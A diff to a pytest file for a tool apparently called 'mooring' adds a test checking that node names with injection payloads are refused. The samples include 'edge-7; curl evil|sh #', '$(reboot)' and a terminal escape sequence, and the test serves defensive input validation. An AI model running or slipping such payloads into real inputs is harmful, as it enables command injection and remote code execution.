@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import shutil
 import socket
 from pathlib import Path
 
@@ -64,3 +65,17 @@ def test_collect_writes_when_it_was(tmp_path: Path, monkeypatch: pytest.MonkeyPa
     assert json.loads(mooring(*collected).out)["captured"] == "1970-01-02T00:00:00Z"
     monkeypatch.delenv("SOURCE_DATE_EPOCH")
     assert json.loads(mooring(*collected).out)["captured"] > "2026"
+
+
+@pytest.mark.parametrize("name", ["edge-7; curl evil|sh #", "\x1b]0;owned\x07", "$(reboot)", "--all"])
+@pytest.mark.parametrize("verb", ["migrate", "doctor", "show"])
+def test_an_archive_of_a_node_that_no_node_is_called_is_refused(name: str, verb: str, tmp_path: Path) -> None:
+    node = tmp_path / "node"
+    shutil.copytree(EXAMPLES / "node", node)
+    about = json.loads((node / "mooring-node.json").read_text(encoding="utf-8"))
+    (node / "mooring-node.json").write_text(json.dumps(about | {"node": name}), encoding="utf-8")
+    answered = mooring(verb, "--node", node)
+    assert (answered.code, answered.out) == (2, "")
+    assert "mooring-node.json" in answered.complaint
+    assert "node: " in answered.complaint
+    assert "is not a valid name; " in answered.complaint
